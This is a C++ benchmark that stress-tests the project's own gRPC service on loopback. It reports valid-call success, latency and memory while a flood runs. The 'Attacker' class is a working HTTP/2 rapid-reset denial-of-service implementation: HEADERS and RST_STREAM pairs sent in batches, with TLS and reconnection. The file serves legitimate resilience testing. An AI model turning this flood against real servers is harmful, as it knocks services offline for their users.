// HTTP/2 rapid reset against the real vorna-service, on loopback only: one connection (from
// 127.0.0.2, reconnecting when cut off) sends
// HEADERS + RST_STREAM pairs as fast as it can for a few seconds, while a valid client makes a
// call on a fresh connection every 200 ms. Prints how many valid calls were served and how fast,
// and the service's memory during and after the flood.
//
//   bench_rapidreset [--seconds 3] [--service PATH] [--max-resets 2000000] [--tls]
//                    [-- extra serve options]
// --tls serves with a throwaway certificate and floods over TLS (OpenSSL).

#include "commservice.grpc.pb.h"

#include <QCoreApplication>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>

#include <grpcpp/grpcpp.h>
#include <nghttp2/nghttp2.h>
#include <openssl/ssl.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstring>
#include <iterator>
#include <cstdio>
#include <fstream>
#include <string>
#include <thread>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;

struct Options
{
    int seconds = 3;
    long maxResets = 2000000;
    QString service = QStringLiteral(VORNA_SERVICE_BINARY);
    QStringList serveExtra;
    bool tls = false;
};

// VmRSS or VmHWM of a process, in MB.
long memoryMb(qint64 pid, const char *field)
{
    std::ifstream status("/proc/" + std::to_string(pid) + "/status");
    std::string line;
    while (std::getline(status, line)) {
        if (line.rfind(field, 0) == 0)
            return std::stol(line.substr(std::strlen(field) + 1)) / 1024;
    }
    return -1;
}

// From 127.0.0.2, so the valid client (127.0.0.1) is another address to the service.
int connectLoopback(int port)
{
    const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in source{};
    source.sin_family = AF_INET;
    source.sin_addr.s_addr = htonl(INADDR_LOOPBACK + 1);
    ::bind(fd, reinterpret_cast<sockaddr *>(&source), sizeof source);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_port = htons(quint16(port));
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (::connect(fd, reinterpret_cast<sockaddr *>(&address), sizeof address) != 0) {
        ::close(fd);
        return -1;
    }
    const int on = 1;
    ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
    const timeval timeout{1, 0};
    ::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &timeout, sizeof timeout);
    return fd;
}

// The flood: nghttp2 does the framing and HPACK; we only pump bytes.
class Attacker
{
public:
    // With `tls`, the connection speaks TLS with ALPN h2 (the certificate is not checked).
    Attacker(int port, bool tls) : m_port(port), m_authority("127.0.0.1:" + std::to_string(port))
    {
        if (tls) {
            m_tls = SSL_CTX_new(TLS_client_method());
            static const unsigned char h2[] = {2, 'h', '2'};
            SSL_CTX_set_alpn_protos(m_tls, h2, sizeof h2);
        }
    }
    ~Attacker()
    {
        if (m_tls)
            SSL_CTX_free(m_tls);
    }

    // Returns the number of HEADERS + RST_STREAM pairs sent.
    long run(Clock::time_point until, long maxResets)
    {
        long sent = 0;
        while (Clock::now() < until && sent < maxResets) {
            // The service may close the connection (GOAWAY, quota); a real attacker reconnects.
            if (!open())
                break;
            sent += flood(until, maxResets - sent);
            close();
            ++m_connections;
        }
        return sent;
    }
    long connections() const { return m_connections; }

private:
    bool open()
    {
        m_fd = connectLoopback(m_port);
        if (m_fd < 0)
            return false;
        if (m_tls) {
            m_ssl = SSL_new(m_tls);
            SSL_set_fd(m_ssl, m_fd);
            if (SSL_connect(m_ssl) != 1)
                return false;
        }
        nghttp2_session_callbacks *callbacks;
        nghttp2_session_callbacks_new(&callbacks);
        nghttp2_session_client_new(&m_session, callbacks, this);
        nghttp2_session_callbacks_del(callbacks);
        nghttp2_submit_settings(m_session, NGHTTP2_FLAG_NONE, nullptr, 0);
        return pump();
    }

    void close()
    {
        nghttp2_session_del(m_session);
        m_session = nullptr;
        if (m_ssl)
            SSL_free(m_ssl);
        m_ssl = nullptr;
        ::close(m_fd);
    }

    long flood(Clock::time_point until, long budget)
    {
        const std::string path = "/vorna.v1.CommService/Logout";
        auto header = [](const char *name, const std::string &value) {
            return nghttp2_nv{reinterpret_cast<uint8_t *>(const_cast<char *>(name)),
                              reinterpret_cast<uint8_t *>(const_cast<char *>(value.data())), std::strlen(name),
                              value.size(), NGHTTP2_NV_FLAG_NONE};
        };
        const std::string post = "POST", http = "http", grpc = "application/grpc", trailers = "trailers";
        const nghttp2_nv headers[] = {header(":method", post), header(":scheme", http), header(":path", path),
                                      header(":authority", m_authority), header("content-type", grpc),
                                      header("te", trailers)};
        // Below the service's stream limit, so each HEADERS leaves at once.
        constexpr int Batch = 32;
        long sent = 0;
        std::vector<int32_t> ids;
        while (sent < budget && Clock::now() < until) {
            ids.clear();
            for (int i = 0; i < Batch; ++i)
                ids.push_back(nghttp2_submit_request(m_session, nullptr, headers, std::size(headers), nullptr, nullptr));
            if (!pump())
                break;
            for (int32_t id : ids)
                nghttp2_submit_rst_stream(m_session, NGHTTP2_FLAG_NONE, id, NGHTTP2_CANCEL);
            if (!pump())
                break;
            sent += Batch;
        }
        return sent;
    }

    // Writes what nghttp2 has queued and feeds it what the service sent; false when the
    // connection is gone.
    bool pump()
    {
        const uint8_t *data;
        ssize_t length;
        while ((length = nghttp2_session_mem_send(m_session, &data)) > 0) {
            for (ssize_t done = 0; done < length;) {
                const ssize_t wrote = write(data + done, size_t(length - done));
                if (wrote <= 0)
                    return false;
                done += wrote;
            }
        }
        uint8_t buffer[65536];
        ssize_t got;
        bool wouldBlock = false;
        while ((got = read(buffer, sizeof buffer, &wouldBlock)) > 0) {
            if (nghttp2_session_mem_recv(m_session, buffer, size_t(got)) < 0)
                return false;
        }
        return wouldBlock && length == 0 && nghttp2_session_want_read(m_session);
    }

    ssize_t write(const uint8_t *data, size_t size)
    {
        if (!m_ssl)
            return ::send(m_fd, data, size, MSG_NOSIGNAL);
        const int wrote = SSL_write(m_ssl, data, int(size));
        return wrote > 0 ? wrote : -1;
    }

    // What has arrived, without waiting; `wouldBlock` when nothing more is there yet.
    ssize_t read(uint8_t *buffer, size_t size, bool *wouldBlock)
    {
        if (!m_ssl) {
            const ssize_t got = ::recv(m_fd, buffer, size, MSG_DONTWAIT);
            *wouldBlock = got < 0 && errno == EAGAIN;
            return got;
        }
        if (SSL_pending(m_ssl) == 0) {
            uint8_t peek;
            const ssize_t waiting = ::recv(m_fd, &peek, 1, MSG_DONTWAIT | MSG_PEEK);
            if (waiting < 0 && errno == EAGAIN) {
                *wouldBlock = true;
                return -1;
            }
        }
        const int got = SSL_read(m_ssl, buffer, int(size));
        *wouldBlock = got <= 0 && SSL_get_error(m_ssl, got) == SSL_ERROR_WANT_READ;
        return got;
    }

    int m_port;
    std::string m_authority;
    int m_fd = -1;
    SSL_CTX *m_tls = nullptr;
    SSL *m_ssl = nullptr;
    nghttp2_session *m_session = nullptr;
    long m_connections = 0;
};

// A valid client: a Logout without a session on a fresh connection; UNAUTHENTICATED is served.
struct Probe
{
    bool served;
    double ms;
    std::string failure;
};

Probe probe(int port, const std::string &rootCert)
{
    grpc::ChannelArguments args;
    args.SetInt(GRPC_ARG_USE_LOCAL_SUBCHANNEL_POOL, 1);
    grpc::SslCredentialsOptions tls;
    tls.pem_root_certs = rootCert;
    auto channel = grpc::CreateCustomChannel("127.0.0.1:" + std::to_string(port),
                                             rootCert.empty() ? grpc::InsecureChannelCredentials() : grpc::SslCredentials(tls),
                                             args);
    auto stub = vorna::v1::CommService::NewStub(channel);
    grpc::ClientContext context;
    context.set_deadline(std::chrono::system_clock::now() + std::chrono::seconds(5));
    vorna::v1::LogoutReply reply;
    const Clock::time_point start = Clock::now();
    const grpc::Status status = stub->Logout(&context, vorna::v1::LogoutRequest(), &reply);
    const bool served = status.error_code() == grpc::UNAUTHENTICATED;
    return {served, std::chrono::duration<double, std::milli>(Clock::now() - start).count(),
            served ? std::string() : std::to_string(status.error_code()) + " " + status.error_message()};
}

Options parse(const QStringList &arguments)
{
    Options options;
    for (int i = 1; i < arguments.size(); ++i) {
        const QString &word = arguments.at(i);
        if (word == QLatin1String("--tls")) {
            options.tls = true;
            continue;
        }
        if (word == QLatin1String("--")) {
            options.serveExtra = arguments.mid(i + 1);
            break;
        }
        const QString value = arguments.value(i + 1);
        if (word == QLatin1String("--seconds"))
            options.seconds = std::clamp(value.toInt(), 1, 30);
        else if (word == QLatin1String("--max-resets"))
            options.maxResets = std::clamp(value.toLong(), 1000L, 10000000L);
        else if (word == QLatin1String("--service"))
            options.service = value;
        else
            continue;
        ++i;
    }
    return options;
}

} // namespace

int main(int argc, char *argv[])
{
    QCoreApplication app(argc, argv);
    const Options options = parse(app.arguments());
    QTemporaryDir dir;
    const QString database = dir.filePath(QStringLiteral("reset.db"));
    if (QProcess::execute(options.service, {QStringLiteral("init"), QStringLiteral("--database"), database}) != 0) {
        std::fprintf(stderr, "Cannot run %s init.\n", qPrintable(options.service));
        return 1;
    }
    QStringList serve{QStringLiteral("serve"), QStringLiteral("--database"), database,
                      QStringLiteral("--listen"), QStringLiteral("127.0.0.1:0"),
                      QStringLiteral("--log-level"), QStringLiteral("error")};
    std::string rootCert;
    if (options.tls) {
        const QString key = dir.filePath(QStringLiteral("key.pem")), cert = dir.filePath(QStringLiteral("cert.pem"));
        QProcess::execute(QStringLiteral("openssl"),
                          {QStringLiteral("req"), QStringLiteral("-x509"), QStringLiteral("-newkey"), QStringLiteral("ec"),
                           QStringLiteral("-pkeyopt"), QStringLiteral("ec_paramgen_curve:prime256v1"), QStringLiteral("-nodes"),
                           QStringLiteral("-days"), QStringLiteral("1"), QStringLiteral("-subj"), QStringLiteral("/CN=localhost"),
                           QStringLiteral("-addext"), QStringLiteral("subjectAltName=IP:127.0.0.1"),
                           QStringLiteral("-keyout"), key, QStringLiteral("-out"), cert});
        std::ifstream pem(cert.toStdString());
        rootCert.assign(std::istreambuf_iterator<char>(pem), std::istreambuf_iterator<char>());
        serve << QStringLiteral("--tls-cert") << cert << QStringLiteral("--tls-key") << key;
    }
    QProcess service;
    service.setProcessChannelMode(QProcess::ForwardedErrorChannel);
    service.start(options.service, serve + options.serveExtra);
    int port = 0;
    static const QRegularExpression listening(QStringLiteral("listening on \\S*:(\\d+)"));
    while (port == 0 && service.waitForReadyRead(20000))
        port = listening.match(QString::fromUtf8(service.readAllStandardOutput())).captured(1).toInt();
    if (port == 0) {
        std::fprintf(stderr, "The service did not start.\n");
        return 1;
    }
    const qint64 pid = service.processId();
    const long idleMb = memoryMb(pid, "VmRSS:");

    const Clock::time_point until = Clock::now() + std::chrono::seconds(options.seconds);
    std::atomic<long> resets{0};
    Attacker attacker(port, options.tls);
    std::thread flood([&] { resets = attacker.run(until, options.maxResets); });

    std::vector<Probe> probes;
    long peakMb = idleMb;
    while (Clock::now() < until) {
        probes.push_back(probe(port, rootCert));
        peakMb = std::max(peakMb, memoryMb(pid, "VmRSS:"));
        std::this_thread::sleep_for(std::chrono::milliseconds(200));
    }
    flood.join();
    // Recovery after the flood: the first valid call, and memory a few seconds on.
    const Probe after = probe(port, rootCert);
    std::this_thread::sleep_for(std::chrono::seconds(3));
    const long settledMb = memoryMb(pid, "VmRSS:");

    const long served = std::count_if(probes.begin(), probes.end(), [](const Probe &p) { return p.served; });
    double worstMs = 0;
    for (const Probe &p : probes) {
        worstMs = std::max(worstMs, p.ms);
        if (!p.served)
            std::printf("valid call failed after %.0f ms: %s\n", p.ms, p.failure.c_str());
    }
    std::printf("rapid reset%s: %ld pairs in %d s over %ld connection(s)\n", options.tls ? " over TLS" : "",
                resets.load(), options.seconds, attacker.connections());
    std::printf("BENCH rapidreset_valid_calls_served median=%ld/%zu min=%ld max=%zu target=all\n", served,
                probes.size(), served, probes.size());
    std::printf("BENCH rapidreset_valid_call_worst median=%.0fms min=%.0f max=%.0f target=<=2000ms\n", worstMs,
                worstMs, worstMs);
    std::printf("BENCH rapidreset_call_after median=%.0fms min=%.0f max=%.0f target=served (%s)\n", after.ms,
                after.ms, after.ms, after.served ? "served" : "NOT served");
    std::printf("BENCH rapidreset_rss_peak median=%ldMB min=%ld max=%ld target=<300MB (idle %ld MB)\n", peakMb, idleMb,
                peakMb, idleMb);
    std::printf("BENCH rapidreset_rss_after median=%ldMB min=%ld max=%ld target=<300MB\n", settledMb, settledMb,
                settledMb);
    service.terminate();
    service.waitForFinished(20000);
    return 0;
}
